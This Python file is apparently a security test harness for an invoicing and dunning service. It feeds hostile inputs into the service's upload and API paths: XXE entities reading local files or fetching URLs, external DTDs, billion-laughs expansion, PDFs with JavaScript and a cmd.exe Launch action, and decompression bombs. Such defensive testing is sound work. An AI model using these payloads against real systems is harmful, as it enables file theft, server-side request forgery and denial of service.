"""Hostile-input campaign (#9): every kind of attack on every input path, through the real entry
point, each bounded in time; writes docs/hostile-input.md.

Paths and entry points:

- files (invoice XML CII/UBL, e-invoice XML inside a PDF, invoice PDFs, CSV invoices, camt.053,
  bank CSV, MT940, the corpus's failing and EICAR files): uploaded to the local stack's S3 inbox,
  which notifies the intake queue; the intake function runs (``LocalStack.drain``) and the
  import report it writes says what became of the file;
- the REST API (settings with tenant texts, uploads, oversized and nested bodies, pagination and
  cursors): requests through ``LocalStack.api`` (authorizer, then the API function);
- pure checks (the letter-template sandbox, S3 key rules): the functions themselves, in a separate
  worker process with a memory limit, killed when it overruns (a bomb that escapes cannot take
  the campaign down with it).

Each attempt ends as one of: ``refused`` (the entry point said no, with its reason), ``defused``
(taken as inert data by design, and checked to be inert: e.g. a payment is never refused for its
remittance text), ``accepted`` (taken although it should not be), ``crashed`` (an exception
escaped, a 5xx, a message in a dead-letter queue that is not the designed path), ``hung`` (no
answer within the case's time limit) or ``skipped`` (the corpus is not there).

Run: ``.venv/bin/python -m mahnwerk_local.hostile [--corpus DIR] [--write docs/hostile-input.md]``
"""

from __future__ import annotations

import argparse
import base64
import contextlib
import csv
import io
import json
import logging
import multiprocessing
import os
import socket
import sys
import tempfile
import threading
import time
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

from .cfn import project_root

DOC = project_root() / "docs" / "hostile-input.md"
CORPUS = project_root().parent / "shared" / "corpus"
TENANT, OTHER = "acme", "beta"
OUTCOMES = ("refused", "defused", "accepted", "crashed", "hung", "skipped")
#: outcomes that pass: the attempt was refused, or taken as data that was checked to be inert
SAFE = frozenset({"refused", "defused"})
CANARY = "MAHNWERK-CANARY-7f3a9c"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
#: binary junk, the same on every run (the report must not change from run to run)
JUNK = bytes(range(256)) * 32
#: crashes the campaign found whose fix belongs to code others are changing: reported, listed
#: here so the test passes meanwhile; the test fails once one of them no longer crashes
KNOWN_ISSUES: dict[str, str] = {}


@dataclass(frozen=True)
class Verdict:
    outcome: str
    reason: str


@dataclass(frozen=True)
class Case:
    id: str
    path: str  # the input path attacked
    attack: str  # what is tried
    via: str  # "s3" | "api" | "pure"
    run: Callable[[Env], Verdict] | None = None  # s3 / api: runs in this process
    pure: tuple[str, tuple[Any, ...]] | None = None  # pure: (function name, args) for the worker
    timeout: float = 15.0
    corpus: str | None = None  # the corpus file it needs


@dataclass
class Result:
    case: Case
    outcome: str
    reason: str
    seconds: float


@dataclass
class Report:
    results: list[Result] = field(default_factory=list)

    @property
    def counts(self) -> dict[str, int]:
        found = Counter(r.outcome for r in self.results)
        return {"tried": sum(found[o] for o in OUTCOMES if o != "skipped"),
                **{o: found[o] for o in OUTCOMES}}

    @property
    def failures(self) -> list[Result]:
        """Accepted, crashed or hung, except the known issues that still crash."""
        return [r for r in self.results if r.outcome not in SAFE | {"skipped"}
                and not (r.outcome == "crashed" and r.case.id in KNOWN_ISSUES)]

    @property
    def fixed_issues(self) -> list[str]:
        """Known issues that no longer crash: take them out of KNOWN_ISSUES."""
        return [r.case.id for r in self.results if r.case.id in KNOWN_ISSUES and r.outcome != "crashed"]


# ================================================================================================
# payloads


def cii(buyer: str = "Müller Bau GmbH", prolog: str = '<?xml version="1.0" encoding="UTF-8"?>',
        extra: str = "", number: str = "HX-CII-1") -> bytes:
    ns = ('xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100" '
          'xmlns:ram="urn:un:unece:uncefact:data:standard:ReusableAggregateBusinessInformationEntity:100" '
          'xmlns:udt="urn:un:unece:uncefact:data:standard:UnqualifiedDataType:100" '
          'xmlns:xi="http://www.w3.org/2001/XInclude"')
    return f"""{prolog}
<rsm:CrossIndustryInvoice {ns}>
  <rsm:ExchangedDocumentContext><ram:GuidelineSpecifiedDocumentContextParameter>
    <ram:ID>urn:cen.eu:en16931:2017</ram:ID></ram:GuidelineSpecifiedDocumentContextParameter>
  </rsm:ExchangedDocumentContext>
  <rsm:ExchangedDocument><ram:ID>{number}</ram:ID><ram:TypeCode>380</ram:TypeCode>
    <ram:IssueDateTime><udt:DateTimeString format="102">20260301</udt:DateTimeString></ram:IssueDateTime>
  </rsm:ExchangedDocument>{extra}
  <rsm:SupplyChainTradeTransaction>
    <ram:ApplicableHeaderTradeAgreement>
      <ram:SellerTradeParty><ram:Name>Tischlerei Holz KG</ram:Name></ram:SellerTradeParty>
      <ram:BuyerTradeParty><ram:ID>K-100</ram:ID><ram:Name>{buyer}</ram:Name>
        <ram:PostalTradeAddress><ram:PostcodeCode>10115</ram:PostcodeCode>
          <ram:LineOne>Baustraße 7</ram:LineOne><ram:CityName>Berlin</ram:CityName>
          <ram:CountryID>DE</ram:CountryID></ram:PostalTradeAddress>
      </ram:BuyerTradeParty>
    </ram:ApplicableHeaderTradeAgreement>
    <ram:ApplicableHeaderTradeSettlement>
      <ram:InvoiceCurrencyCode>EUR</ram:InvoiceCurrencyCode>
      <ram:SpecifiedTradePaymentTerms><ram:DueDateDateTime>
        <udt:DateTimeString format="102">20260331</udt:DateTimeString></ram:DueDateDateTime>
      </ram:SpecifiedTradePaymentTerms>
      <ram:SpecifiedTradeSettlementHeaderMonetarySummation>
        <ram:GrandTotalAmount>119.00</ram:GrandTotalAmount>
        <ram:DuePayableAmount>119.00</ram:DuePayableAmount>
      </ram:SpecifiedTradeSettlementHeaderMonetarySummation>
    </ram:ApplicableHeaderTradeSettlement>
  </rsm:SupplyChainTradeTransaction>
</rsm:CrossIndustryInvoice>""".encode()


def ubl(buyer: str = "Stadt Mainz", prolog: str = '<?xml version="1.0" encoding="UTF-8"?>',
        extra: str = "") -> bytes:
    return f"""{prolog}
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
  xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2"
  xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">
  <cbc:CustomizationID>urn:cen.eu:en16931:2017#compliant#urn:xeinkauf.de:kosit:xrechnung_3.0</cbc:CustomizationID>
  <cbc:ID>HX-UBL-1</cbc:ID><cbc:IssueDate>2026-03-01</cbc:IssueDate><cbc:DueDate>2026-03-31</cbc:DueDate>
  <cbc:InvoiceTypeCode>380</cbc:InvoiceTypeCode><cbc:DocumentCurrencyCode>EUR</cbc:DocumentCurrencyCode>
  <cbc:BuyerReference>04011000-12345-03</cbc:BuyerReference>{extra}
  <cac:AccountingCustomerParty><cac:Party>
    <cac:PostalAddress><cbc:StreetName>Rathausplatz 1</cbc:StreetName><cbc:CityName>Mainz</cbc:CityName>
      <cbc:PostalZone>55116</cbc:PostalZone></cac:PostalAddress>
    <cac:PartyLegalEntity><cbc:RegistrationName>{buyer}</cbc:RegistrationName></cac:PartyLegalEntity>
  </cac:Party></cac:AccountingCustomerParty>
  <cac:LegalMonetaryTotal>
    <cbc:TaxInclusiveAmount currencyID="EUR">119.00</cbc:TaxInclusiveAmount>
    <cbc:PayableAmount currencyID="EUR">119.00</cbc:PayableAmount>
  </cac:LegalMonetaryTotal>
</Invoice>""".encode()


def camt(debtor: str = "Müller Bau GmbH", remittance: str = "RE-1",
         prolog: str = '<?xml version="1.0" encoding="UTF-8"?>') -> bytes:
    from .camt import Credit, camt053

    body = camt053("DE02120300000000202051", [Credit(date(2026, 3, 20), Decimal("119.00"),
                                                      remittance, debtor)]).decode()
    return (prolog + body.split("?>", 1)[1]).encode()


def billion_laughs() -> str:
    entities = '<!ENTITY l0 "lol">' + "".join(
        f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE r [{entities}]>'


def quadratic_blowup() -> str:
    return f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "{"x" * 50_000}">]>'


def deep_xml(depth: int = 100_000) -> bytes:
    return b'<?xml version="1.0"?>' + b"<a>" * depth + b"</a>" * depth


GERMAN = ["Tischlerei Holz KG, Werkstraße 3, 10115 Berlin", "Müller Bau GmbH", "Baustraße 7",
          "12345 Musterstadt", "Kundennummer: K-4711", "Rechnungsnummer: RE-2026-0042",
          "Rechnungsdatum: 02.03.2026", "Gesamtbetrag 1.190,00 €",
          "Zahlbar innerhalb von 14 Tagen ohne Abzug."]


def text_pdf(lines: list[str] = GERMAN, pages: int = 1) -> bytes:
    import fpdf

    pdf = fpdf.FPDF()
    pdf.core_fonts_encoding = "windows-1252"
    pdf.set_font("helvetica", size=10)
    for _ in range(pages):
        pdf.add_page()
        for line in lines:
            pdf.cell(0, 6, line, new_x="LMARGIN", new_y="NEXT")
    return bytes(pdf.output())


def _writer(data: bytes | None = None) -> Any:
    from pypdf import PdfReader, PdfWriter

    return PdfWriter(clone_from=PdfReader(io.BytesIO(data or text_pdf())))


def _written(writer: Any) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def hybrid_pdf(xml: bytes, name: str = "factur-x.xml") -> bytes:
    writer = _writer()
    writer.add_attachment(name, xml)
    return _written(writer)


def active_pdf(where: str) -> bytes:
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

    writer = _writer()
    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                               NameObject("/JS"): TextStringObject("app.alert('pwned')")})
    if where == "open":
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    elif where == "names":
        tree = DictionaryObject({NameObject("/Names"): ArrayObject(
            [TextStringObject("a"), writer._add_object(action)])})
        writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})
    elif where == "page":
        writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})
    else:
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
            NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})
    return _written(writer)


def encrypted_pdf(algorithm: str) -> bytes:
    writer = _writer()
    writer.encrypt("geheim", algorithm=algorithm)
    return _written(writer)


def _flate_bomb(size: int = 120_000_000) -> bytes:
    squeeze = zlib.compressobj(9)
    chunk = b"\0" * 4_000_000
    return b"".join([*(squeeze.compress(chunk) for _ in range(size // len(chunk))), squeeze.flush()])


def bomb_attachment_pdf() -> bytes:
    from pypdf.generic import NameObject, StreamObject

    writer = _writer()
    writer.add_attachment("factur-x.xml", b"x")
    for obj in writer._objects:
        if isinstance(obj, StreamObject) and obj.get("/Type") == "/EmbeddedFile":
            obj._data = _flate_bomb()
            obj[NameObject("/Filter")] = NameObject("/FlateDecode")
    return _written(writer)


def bomb_page_pdf() -> bytes:
    from pypdf.generic import NameObject

    writer = _writer()
    content = writer.pages[0]["/Contents"].get_object()
    content._data = _flate_bomb()
    content[NameObject("/Filter")] = NameObject("/FlateDecode")
    return _written(writer)


def many_pages_pdf(pages: int = 501) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(10, 10)
    return _written(writer)


def raw_pdf(body: bytes) -> bytes:
    return b"%PDF-1.4\n" + body + b"trailer << /Root 1 0 R /Size 5 >>\nstartxref\n0\n%%EOF"


CSV_HEAD = "Rechnungsnummer;Kundennummer;Kunde;E-Mail;Straße;PLZ;Ort;Rechnungsdatum;Fällig am;Betrag\n"


def csv_row(number: str = "HX-CSV-1", name: str = "Müller Bau GmbH", city: str = "Berlin") -> bytes:
    return (CSV_HEAD + f"{number};K-500;{name};a@example.org;Weg 1;10115;{city};01.03.2026;"
                       f"31.03.2026;119,00\n").encode()


BANK_CSV_HEAD = "Buchungstag;Valuta;Auftraggeber/Empfänger;IBAN;Verwendungszweck;Betrag;Währung\n"


def bank_csv(name: str, remittance: str) -> bytes:
    out = io.StringIO()
    csv.writer(out, delimiter=";", lineterminator="\n").writerow(
        ["20.03.2026", "20.03.2026", name, "DE89370400440532013000", remittance, "119,00", "EUR"])
    return (BANK_CSV_HEAD + out.getvalue()).encode()


def oversized(prefix: bytes, size: int) -> bytes:
    return prefix + b"x" * (size - len(prefix))


# ================================================================================================
# the environment: the local stack with two tenants, keys and a canary


class Canary:
    """A TCP listener and a file holding a secret token: an XXE or external DTD that reaches out
    (to the network or the file system) shows up here."""

    def __init__(self) -> None:
        self._server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self._server.bind(("127.0.0.1", 0))
        self._server.listen(16)
        self._server.setblocking(False)
        self.url = f"http://127.0.0.1:{self._server.getsockname()[1]}"
        self._dir = tempfile.TemporaryDirectory(prefix="mahnwerk-canary-")
        self.file = Path(self._dir.name) / "secret.txt"
        self.file.write_text(CANARY + "\n", encoding="utf-8")

    def touched(self) -> bool:
        try:
            conn, _ = self._server.accept()
        except BlockingIOError:
            return False
        conn.close()
        return True

    def close(self) -> None:
        self._server.close()
        self._dir.cleanup()


class Env:
    def __init__(self, stack: Any, corpus: Path | None) -> None:
        from mahnwerk.service.keys import create_key
        from mahnwerk.service.tenants import SETTINGS_KEY

        self.stack = stack
        self.corpus = corpus if corpus and corpus.is_dir() else None
        self.canary = Canary()
        self.settings = json.loads((project_root() / "infra/mahnwerk_local/demo/settings.json")
                                   .read_text("utf-8"))
        at = datetime(2026, 3, 1, tzinfo=UTC)
        self.keys: dict[str, str] = {}
        with stack.service_context() as ctx:
            for tenant in (TENANT, OTHER):
                ctx.tenants.put_document(tenant, SETTINGS_KEY, self.settings, at)
                self.keys[tenant], _ = create_key(ctx, tenant, "hostile", at)
        stack.verify_sender(self.settings["sender_email"])
        stack.now = datetime(2026, 3, 10, 9, tzinfo=UTC)
        rows = [{"number": f"P-{i}", "customer": {"id": "K-1", "name": "Anna Schmidt"},
                 "issue_date": "2026-03-01", "amount": "10.00"} for i in range(3)]
        for tenant in (TENANT, OTHER):
            assert self.api("POST", "/v1/invoices", {"invoices": rows}, tenant=tenant).status == 200
        self.other_cursor = self.api("GET", "/v1/invoices", tenant=OTHER,
                                     query={"limit": "1"}).body["next_cursor"]

    # --- the API ------------------------------------------------------------------------------
    def api(self, method: str, path: str, body: Any = None, tenant: str = TENANT,
            query: dict[str, str] | None = None) -> Any:
        return self.stack.api(method, path, key=self.keys[tenant], body=body, query=query)

    def api_verdict(self, method: str, path: str, body: Any = None,
                    query: dict[str, str] | None = None) -> Verdict:
        return api_verdict(self.api(method, path, body, query=query))

    # --- S3 --------------------------------------------------------------------------------------
    def put(self, key: str, data: bytes) -> str:
        answer = self.stack.client("s3").put_object(Bucket=self.stack.bucket, Key=key, Body=data)
        return str(answer.get("VersionId") or "")

    def dlq(self) -> int:
        return int(self.stack.queue_depth("IntakeDeadLetterQueue"))

    def s3_file(self, kind: str, name: str, data: bytes) -> Verdict:
        """Upload into the tenant's inbox, let the intake run, read its report."""
        dlq, start = self.dlq(), len(self.stack.invocations)
        version = self.put(f"inbox/{TENANT}/{kind}/{name}", data)
        self.stack.drain()
        errors = [log.error for log in self.stack.invocations[start:] if log.error]
        if errors:
            return Verdict("crashed", _first_line(errors[0]))
        if self.dlq() > dlq:
            return Verdict("crashed", "the message went to the intake dead-letter queue")
        report = self.import_report(name, version)
        if report is None:
            return Verdict("crashed", "the intake wrote no import report")
        if self.canary.touched():
            return Verdict("accepted", "the parser connected to the canary URL (SSRF)")
        text = json.dumps(report)
        if CANARY in text:
            return Verdict("accepted", "the canary file's content reached the report (XXE)")
        reasons = "; ".join(f"line {r['line']}: {r['reason']}" if r["line"] else r["reason"]
                            for r in report["rejected"])
        payments = report.get("payments") or {}
        taken = (report["created"] + report["updated"] + report["unchanged"]
                 + payments.get("booked", []) + payments.get("unmatched", []))
        if taken:
            return Verdict("accepted", f"{len(taken)} record(s) taken" + (f"; {reasons}" if reasons else ""))
        if not reasons:
            return Verdict("accepted", "nothing taken and no reason given")
        return Verdict("refused", reasons)

    def import_report(self, name: str, version: str) -> dict[str, Any] | None:
        """The intake's report: keyed by the version when S3 events carry one (AWS), else not
        (moto's events do not)."""
        s3 = self.stack.client("s3")
        for suffix in (f".{version}", "") if version else ("",):
            try:
                body = s3.get_object(Bucket=self.stack.bucket,
                                     Key=f"reports/{TENANT}/imports/{name}{suffix}.json")["Body"]
            except s3.exceptions.NoSuchKey:
                continue
            found: dict[str, Any] = json.loads(body.read())
            return found
        return None

    def s3_corpus(self, kind: str, rel: str) -> Verdict:
        assert self.corpus is not None
        path = self.corpus / rel
        return self.s3_file(kind, "corpus-" + path.name, path.read_bytes())

    def customer_names(self) -> str:
        with self.stack.service_context() as ctx:
            return json.dumps([c.name for c in ctx.customers.customers(TENANT)], ensure_ascii=False)

    def payments(self) -> list[Any]:
        with self.stack.service_context() as ctx:
            return list(ctx.payments.payments(TENANT))


def upload(kind: str, name: str, data: bytes | Callable[[], bytes]) -> Callable[[Env], Verdict]:
    """A case that uploads ``data`` (or what ``data()`` builds, when the case runs) to the inbox."""
    def run(env: Env) -> Verdict:
        return env.s3_file(kind, name, data() if callable(data) else data)
    return run


def request(method: str, path: str, body: Any = None,
            query: dict[str, str] | None = None) -> Callable[[Env], Verdict]:
    def run(env: Env) -> Verdict:
        return env.api_verdict(method, path, body, query)
    return run


def _first_line(error: str) -> str:
    lines = [ln for ln in error.splitlines() if ln.strip()]
    last = next((ln for ln in reversed(lines) if ":" in ln and not ln.startswith(" ")), lines[0])
    return last[:300]


def api_verdict(response: Any) -> Verdict:
    body = response.body
    if response.status >= 500:
        return Verdict("crashed", f"HTTP {response.status}: {str(body)[:200]}")
    if response.status >= 400:
        if isinstance(body, dict) and isinstance(body.get("detail"), list):
            parts = [f"{'.'.join(str(p) for p in d.get('loc', []))}: {d.get('type')}"
                     for d in body["detail"][:3]]
            return Verdict("refused", f"HTTP {response.status} ({'; '.join(parts)})")
        message = body.get("message") if isinstance(body, dict) else body
        return Verdict("refused", f"HTTP {response.status}: {str(message)[:240]}")
    return Verdict("accepted", f"HTTP {response.status}")


# ================================================================================================
# pure checks (run in the worker process)


def _plan(lines: int = 3) -> Any:
    from mahnwerk.domain.dunning import NoticeLine, NoticePlan
    from mahnwerk.domain.model import Channel
    from mahnwerk.domain.policy import Action, Tone

    items = tuple(NoticeLine(number=f"RE-{i}", issue_date=date(2026, 1, 1), due_date=date(2026, 1, 15),
                             amount=Decimal("100.00"), paid=Decimal("0"), open_amount=Decimal("100.00"),
                             level=1, days_overdue=30) for i in range(lines))
    return NoticePlan(tenant_id=TENANT, customer_id="K-1", run_date=date(2026, 2, 14), level=1,
                      level_name="Zahlungserinnerung", tone=Tone.FRIENDLY, channels=(Channel.EMAIL,),
                      action=Action.LETTER, lines=items, fee=Decimal("0"),
                      deadline=date(2026, 2, 28), advances=())


def _customer(name: str = "Anna Schmidt") -> Any:
    from mahnwerk.domain.model import Address, Customer

    return Customer(tenant_id=TENANT, customer_id="K-1", name=name, email="anna@example.org",
                    address=Address("Weg 1", "10115", "Berlin"), is_consumer=True)


def _settings(doc: dict[str, Any] | None = None) -> Any:
    from mahnwerk.domain.settings_doc import settings_from_dict

    return settings_from_dict(TENANT, doc or json.loads(
        (project_root() / "infra/mahnwerk_local/demo/settings.json").read_text("utf-8")))


def pure_template(source: str, lines: int = 3) -> Verdict:
    """A tenant's letter template through ``check_template`` (the gate for tenant texts)."""
    from mahnwerk.letters.texts import LetterTemplateError, check_template

    try:
        check_template(source, _plan(lines), _customer(), _settings())
    except LetterTemplateError as exc:
        return Verdict("refused", str(exc)[:300])
    return Verdict("accepted", "the template rendered")


def pure_inbox_key(key: str) -> Verdict:
    from mahnwerk.domain.model import DomainError
    from mahnwerk.service.intake import parse_inbox_key

    try:
        parsed = parse_inbox_key(key)
    except DomainError as exc:
        return Verdict("refused", str(exc)[:300])
    return Verdict("accepted", f"taken as {parsed}")


def pure_literal_text(where: str, payload: str) -> Verdict:
    """Template syntax in a value the tenant sets (company name, level name): printed as it is,
    never evaluated."""
    from mahnwerk.letters.texts import compose

    doc = json.loads((project_root() / "infra/mahnwerk_local/demo/settings.json").read_text("utf-8"))
    if where == "company.name":
        doc["company"]["name"] = payload
    else:
        doc["policy"]["levels"][0]["name"] = payload
    settings = _settings(doc)
    plan = _plan()
    if where != "company.name":
        plan = type(plan)(**{**plan.__dict__, "level_name": payload})
    letter = compose(plan, _customer(payload if where == "customer.name" else "Anna Schmidt"),
                     settings)
    text = letter.subject + "\n" + letter.as_plain_text()
    if payload in text:
        return Verdict("defused", f"the {where} is data to the templates: printed verbatim in the "
                                  "letter, never evaluated")
    return Verdict("accepted", "the value was evaluated as a template, or lost")


PURE: dict[str, Callable[..., Verdict]] = {
    "template": pure_template, "inbox_key": pure_inbox_key, "literal_text": pure_literal_text}

#: the worker's address-space limit: a bomb that escapes the checks hits MemoryError here
WORKER_MEMORY = 2 * 1024 ** 3


def _worker(conn: Any) -> None:
    with contextlib.suppress(ImportError, ValueError, OSError):
        import resource

        resource.setrlimit(resource.RLIMIT_AS, (WORKER_MEMORY, WORKER_MEMORY))
    logging.disable(logging.CRITICAL)
    while True:
        message = conn.recv()
        if message is None:
            return
        name, args = message
        try:
            verdict = PURE[name](*args)
            conn.send((verdict.outcome, verdict.reason))
        except BaseException as exc:  # every escape is the finding
            conn.send(("crashed", f"{type(exc).__name__}: {str(exc)[:300]}"))


class Worker:
    """One spawned process for the pure checks; killed and replaced when a check overruns."""

    def __init__(self) -> None:
        self._ctx = multiprocessing.get_context("spawn")
        self._proc: Any = None
        self._conn: Any = None

    def _start(self) -> None:
        self._conn, child = self._ctx.Pipe()
        self._proc = self._ctx.Process(target=_worker, args=(child,), daemon=True)
        self._proc.start()
        child.close()

    def run(self, name: str, args: tuple[Any, ...], timeout: float) -> Verdict:
        if self._proc is None or not self._proc.is_alive():
            self._start()
        self._conn.send((name, args))
        if not self._conn.poll(timeout):
            self.stop(kill=True)
            return Verdict("hung", f"no answer within {timeout:.0f} s; the worker was killed")
        try:
            outcome, reason = self._conn.recv()
        except EOFError:
            self.stop(kill=True)
            return Verdict("crashed", "the worker process died")
        return Verdict(outcome, reason)

    def stop(self, kill: bool = False) -> None:
        if self._proc is None:
            return
        if kill:
            self._proc.kill()
        else:
            with contextlib.suppress(OSError, BrokenPipeError):
                self._conn.send(None)
        self._proc.join(5)
        if self._proc.is_alive():
            self._proc.kill()
            self._proc.join(5)
        self._proc = None


def bounded(fn: Callable[[], Verdict], timeout: float) -> Verdict:
    """Run in a thread; a case that does not answer in time is recorded as hung (the thread is
    left behind as a daemon: Python cannot stop it, the process exit will)."""
    box: dict[str, Any] = {}

    def target() -> None:
        try:
            box["verdict"] = fn()
        except BaseException as exc:  # LambdaCrash and everything else
            box["error"] = exc

    thread = threading.Thread(target=target, name="hostile-case", daemon=True)
    thread.start()
    thread.join(timeout)
    if thread.is_alive():
        return Verdict("hung", f"no answer within {timeout:.0f} s")
    if "error" in box:
        exc = box["error"]
        return Verdict("crashed", f"{type(exc).__name__}: {_first_line(str(exc) or '-')}"[:300])
    verdict: Verdict = box["verdict"]
    return verdict


# ================================================================================================
# the cases


def _xml_cases(env_url: str, canary_file: str) -> Iterator[Case]:
    xxe_file = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file://{canary_file}">]>'
    xxe_url = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "{env_url}/xxe">]>'
    dtd = f'<?xml version="1.0"?><!DOCTYPE r SYSTEM "{env_url}/evil.dtd">'
    param = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "{env_url}/p.dtd"> %p;]>'
    attacks: list[tuple[str, str, Callable[[Callable[..., bytes]], bytes]]] = [
        ("xxe-file", "XXE: an external entity reading a local file", lambda f: f(buyer="&xxe;",
                                                                                  prolog=xxe_file)),
        ("xxe-url", "XXE: an external entity fetching a URL (SSRF)",
         lambda f: f(buyer="&xxe;", prolog=xxe_url)),
        ("external-dtd", "an external DTD (fetched from a URL)", lambda f: f(prolog=dtd)),
        ("parameter-entity", "a parameter entity loading an external DTD", lambda f: f(prolog=param)),
        ("billion-laughs", "entity expansion: billion laughs",
         lambda f: f(buyer="&l9;", prolog=billion_laughs())),
        ("quadratic-blowup", "entity expansion: one 50 kB entity used 10 000 times",
         lambda f: f(buyer="&a;" * 10_000, prolog=quadratic_blowup())),
    ]
    for syntax, build in (("cii", cii), ("ubl", ubl)):
        for name, attack, make in attacks:
            payload = make(build)
            yield Case(f"xml-{syntax}-{name}", f"invoice XML ({syntax.upper()}) via the S3 inbox",
                       attack, "s3", run=upload("invoices", f"{syntax}-{name}.xml", payload))
    yield Case("xml-cii-xinclude", "invoice XML (CII) via the S3 inbox",
               "XInclude of a local file", "s3", run=_xinclude)
    yield Case("xml-cii-deep-nesting", "invoice XML (CII) via the S3 inbox",
               "100 000 nested elements", "s3",
               run=lambda env: env.s3_file("invoices", "deep.xml", deep_xml()))
    yield Case("xml-cii-utf7", "invoice XML (CII) via the S3 inbox",
               "a UTF-7 declaration (encoding tricks to hide markup)", "s3",
               run=lambda env: env.s3_file("invoices", "utf7.xml", cii(
                   prolog='<?xml version="1.0" encoding="UTF-7"?>')))
    yield Case("xml-cii-eicar", "invoice XML (CII) via the S3 inbox",
               "the EICAR test signature in the XML text", "s3",
               run=lambda env: env.s3_file("invoices", "eicar.xml", cii(buyer=EICAR.decode())))
    # the same attacks inside a hybrid PDF (ZUGFeRD / Factur-X)
    for name, attack, make in attacks[:1] + attacks[2:3] + attacks[4:5]:
        payload = hybrid_pdf(make(cii))
        yield Case(f"pdf-embedded-{name}", "e-invoice XML inside a PDF via the S3 inbox",
                   f"{attack}, in the embedded factur-x.xml", "s3",
                   run=upload("invoices", f"embedded-{name}.pdf", payload))
    yield Case("pdf-embedded-eicar", "e-invoice XML inside a PDF via the S3 inbox",
               "the EICAR test file as an attachment", "s3",
               run=lambda env: env.s3_file("invoices", "embedded-eicar.pdf",
                                           hybrid_pdf(EICAR, "readme.txt")))
    # camt.053 bank statements
    for name, attack, _ in attacks:
        if name in {"xxe-file", "xxe-url"}:
            payload = camt(debtor="&xxe;", prolog=(xxe_file if name == "xxe-file" else xxe_url))
        elif name == "billion-laughs":
            payload = camt(debtor="&l9;", prolog=billion_laughs())
        elif name == "quadratic-blowup":
            payload = camt(debtor="&a;" * 10_000, prolog=quadratic_blowup())
        else:
            payload = camt(prolog=dtd if name == "external-dtd" else param)
        yield Case(f"camt-{name}", "camt.053 bank statement via the S3 inbox", attack, "s3",
                   run=upload("bank", f"camt-{name}.xml", payload))
    yield Case("camt-eicar", "camt.053 bank statement via the S3 inbox",
               "the EICAR test signature in a remittance text", "s3",
               run=lambda env: _bank_eicar(env, "camt-eicar.xml", camt(remittance=EICAR.decode())))
    yield Case("camt-deep-nesting", "camt.053 bank statement via the S3 inbox",
               "100 000 nested elements", "s3",
               run=lambda env: env.s3_file("bank", "camt-deep.xml", deep_xml()))


def _xinclude(env: Env) -> Verdict:
    extra = f'<xi:include href="file://{env.canary.file}" parse="text"/>'
    verdict = env.s3_file("invoices", "xinclude.xml", cii(extra=extra, number="HX-XI-1"))
    if verdict.outcome != "accepted":
        return verdict
    if CANARY in env.customer_names():
        return Verdict("accepted", "XInclude was processed: the file's content was imported")
    return Verdict("defused", "XInclude is not processed: the element is ignored, the invoice "
                              "itself imported, nothing was read from the file")


def _pdf_cases() -> Iterator[Case]:
    path = "invoice PDF via the S3 inbox"
    for where, what in (("open", "JavaScript as the document's OpenAction"),
                        ("names", "JavaScript in the document's name tree"),
                        ("page", "JavaScript as a page's open action"),
                        ("launch", "a Launch action starting cmd.exe")):
        yield Case(f"pdf-active-{where}", path, what, "s3",
                   run=upload("invoices", f"active-{where}.pdf", active_pdf(where)))
    for algorithm in ("RC4-128", "AES-256"):
        yield Case(f"pdf-encrypted-{algorithm.lower()}", path, f"encrypted ({algorithm})", "s3",
                   run=upload("invoices", f"encrypted-{algorithm}.pdf", encrypted_pdf(algorithm)))
    malformed = {
        "pdf-malformed-truncated": ("truncated to half its length",
                                    lambda: (d := hybrid_pdf(cii()))[: len(d) // 2]),
        "pdf-malformed-header-only": ("a PDF header and nothing else", lambda: b"%PDF-1.7\n"),
        "pdf-malformed-xref-bomb": ("an xref table claiming 99 999 999 entries",
                                    lambda: raw_pdf(b"xref\n0 99999999\n0000000000 65535 f \n")),
        "pdf-malformed-page-loop": ("a page tree that contains itself", lambda: raw_pdf(
            b"1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
            b"2 0 obj << /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >> endobj\n"
            b"3 0 obj << /Type /Pages /Kids [2 0 R] /Parent 2 0 R /Count 1 >> endobj\n")),
        "pdf-malformed-deep-nesting": ("arrays nested 100 000 deep", lambda: raw_pdf(
            b"1 0 obj << /Type /Catalog /Pages 2 0 R /X " + b"[" * 100_000 + b"]" * 100_000
            + b" >> endobj\n")),
        "pdf-malformed-garbage": ("a PDF header followed by binary junk",
                                  lambda: b"%PDF-1.4\n" + JUNK * 8),
    }
    for case_id, (what, build) in malformed.items():
        yield Case(case_id, path, what, "s3",
                   run=upload("invoices", f"{case_id}.pdf", build))
    yield Case("pdf-decompression-bomb-page", path, "a page stream that inflates to 120 MB", "s3",
               run=lambda env: env.s3_file("invoices", "bomb-page.pdf", bomb_page_pdf()), timeout=30)
    yield Case("pdf-decompression-bomb-attachment", path,
               "an embedded factur-x.xml that inflates to 120 MB", "s3",
               run=lambda env: env.s3_file("invoices", "bomb-attachment.pdf", bomb_attachment_pdf()),
               timeout=30)
